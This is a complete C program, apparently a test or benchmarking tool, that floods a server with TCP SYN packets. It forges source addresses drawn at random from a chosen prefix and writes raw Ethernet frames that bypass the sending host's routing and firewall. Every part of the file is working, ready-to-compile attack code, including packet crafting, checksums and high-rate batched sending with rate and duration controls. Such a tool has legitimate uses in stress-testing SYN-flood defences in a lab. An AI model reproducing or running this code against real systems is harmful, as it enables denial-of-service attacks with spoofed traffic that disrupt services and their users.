/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * A flood of SYNs from addresses that are not its own: frames written straight to the interface, so
 * that no socket, route or firewall of this host has a say. Sources are taken at random from PREFIX
 * (IPv4), ports and sequence numbers too. At most PACKETS, PER_SECOND (0: as fast as can be) and
 * SECONDS.
 *
 * Usage: syn_flood INTERFACE MAC SERVER PORT PREFIX PACKETS PER_SECOND SECONDS
 * Prints "sent N in N ms", also when it is ended by SIGTERM.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64

struct frame {
	struct ethhdr ethernet;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t mss[4];
} __attribute__((packed));

struct flood {
	int socket;
	struct frame model;
	uint32_t first, hosts; /* of the prefix, host order; hosts: a mask */
	unsigned long packets, per_second, seconds;
	uint64_t random;
	struct frame frames[BATCH];
	struct iovec vectors[BATCH];
	struct mmsghdr messages[BATCH];
};

static int64_t now_us(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000000 + now.tv_nsec / 1000;
}

/* xorshift64*: the same flood each time. */
static uint32_t next_random(struct flood *flood)
{
	flood->random ^= flood->random >> 12;
	flood->random ^= flood->random << 25;
	flood->random ^= flood->random >> 27;
	return (uint32_t)((flood->random * 0x2545f4914f6cdd1dULL) >> 32);
}

static uint16_t checksum(const void *bytes, size_t length, uint32_t sum)
{
	const uint8_t *byte = bytes;

	for (size_t i = 0; i < length; i += 2)
		sum += (uint32_t)byte[i] << 8 | byte[i + 1];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static void make_frame(struct flood *flood, struct frame *frame)
{
	uint32_t source = flood->first | (next_random(flood) & flood->hosts);
	uint32_t server = ntohl(flood->model.ip.daddr);
	const size_t length = sizeof(frame->tcp) + sizeof(frame->mss);

	*frame = flood->model;
	frame->ip.saddr = htonl(source);
	frame->ip.check = checksum(&frame->ip, sizeof(frame->ip), 0);
	frame->tcp.source = htons((uint16_t)(1024 + next_random(flood) % 60000));
	frame->tcp.seq = next_random(flood);
	frame->tcp.check = checksum(&frame->tcp, length,
				    (source >> 16) + (source & 0xffff) + (server >> 16) +
					    (server & 0xffff) + IPPROTO_TCP + (uint32_t)length);
}

static void make_model(struct flood *flood, const uint8_t own[ETH_ALEN],
		       const uint8_t gateway[ETH_ALEN], struct in_addr server, uint16_t port)
{
	struct frame *model = &flood->model;

	memcpy(model->ethernet.h_source, own, ETH_ALEN);
	memcpy(model->ethernet.h_dest, gateway, ETH_ALEN);
	model->ethernet.h_proto = htons(ETH_P_IP);
	model->ip.version = 4;
	model->ip.ihl = 5;
	model->ip.tot_len = htons(sizeof(*model) - sizeof(model->ethernet));
	model->ip.ttl = 64;
	model->ip.protocol = IPPROTO_TCP;
	model->ip.daddr = server.s_addr;
	model->tcp.dest = htons(port);
	model->tcp.doff = 6;
	model->tcp.syn = 1;
	model->tcp.window = htons(64240);
	memcpy(model->mss, "\x02\x04\x05\xb4", sizeof(model->mss));
	for (int i = 0; i < BATCH; i++) {
		flood->vectors[i] = (struct iovec){&flood->frames[i], sizeof(flood->frames[i])};
		flood->messages[i].msg_hdr.msg_iov = &flood->vectors[i];
		flood->messages[i].msg_hdr.msg_iovlen = 1;
	}
}

static int open_socket(struct flood *flood, const char *interface, uint8_t own[ETH_ALEN])
{
	struct sockaddr_ll address = {
		.sll_family = AF_PACKET,
		.sll_ifindex = (int)if_nametoindex(interface),
	};
	socklen_t size = sizeof(address);
	int bypass = 1;

	flood->socket = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (flood->socket < 0 || !address.sll_ifindex ||
	    bind(flood->socket, (struct sockaddr *)&address, sizeof(address)) ||
	    getsockname(flood->socket, (struct sockaddr *)&address, &size) ||
	    setsockopt(flood->socket, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof(bypass)))
		return -errno;
	memcpy(own, address.sll_addr, ETH_ALEN);
	return 0;
}

static int read_prefix(struct flood *flood, const char *text)
{
	char address[INET_ADDRSTRLEN] = "";
	struct in_addr first;
	unsigned int length;

	if (sscanf(text, "%15[0-9.]/%u", address, &length) != 2 || length > 32 ||
	    inet_pton(AF_INET, address, &first) != 1)
		return -EINVAL;
	flood->hosts = length ? (uint32_t)((1ULL << (32 - length)) - 1) : UINT32_MAX;
	flood->first = ntohl(first.s_addr) & ~flood->hosts;
	return 0;
}

static volatile sig_atomic_t ended;

static void end(int signal)
{
	(void)signal;
	ended = 1;
}

/* A full ring of the peer loses frames, as a wire would; a full one of ours is waited for. */
static unsigned long run(struct flood *flood)
{
	const int64_t start = now_us(), last = start + (int64_t)flood->seconds * 1000000;
	unsigned long sent = 0;

	while (sent < flood->packets && !ended) {
		const int64_t now = now_us();
		const int64_t due = flood->per_second
					    ? start + (int64_t)(sent * 1000000 / flood->per_second)
					    : now;
		int done;

		if (now >= last)
			break;
		if (due > now) {
			nanosleep(&(struct timespec){.tv_nsec = (due - now) * 1000 % 1000000000},
				  NULL);
			continue;
		}
		for (int i = 0; i < BATCH; i++)
			make_frame(flood, &flood->frames[i]);
		done = sendmmsg(flood->socket, flood->messages, BATCH, 0);
		if (done < 0 && errno != ENOBUFS && errno != EAGAIN)
			break;
		sent += done > 0 ? (unsigned long)done : 0;
	}
	printf("sent %lu in %lld ms\n", sent, (long long)(now_us() - start) / 1000);
	return sent;
}

int main(int argc, char **argv)
{
	static struct flood flood = {.random = 0x9e3779b97f4a7c15ULL};
	uint8_t own[ETH_ALEN], gateway[ETH_ALEN];
	struct in_addr server;

	if (argc != 9 ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &gateway[0], &gateway[1], &gateway[2],
		   &gateway[3], &gateway[4], &gateway[5]) != 6 ||
	    inet_pton(AF_INET, argv[3], &server) != 1 || read_prefix(&flood, argv[5])) {
		fprintf(stderr, "usage: syn_flood INTERFACE MAC SERVER PORT PREFIX PACKETS "
				"PER_SECOND SECONDS\n");
		return 2;
	}
	flood.packets = strtoul(argv[6], NULL, 10);
	flood.per_second = strtoul(argv[7], NULL, 10);
	flood.seconds = strtoul(argv[8], NULL, 10);
	if (open_socket(&flood, argv[1], own)) {
		perror("syn_flood: can't send on the interface");
		return 1;
	}
	make_model(&flood, own, gateway, server, (uint16_t)strtoul(argv[4], NULL, 10));
	signal(SIGTERM, end);
	return run(&flood) ? 0 : 1;
}
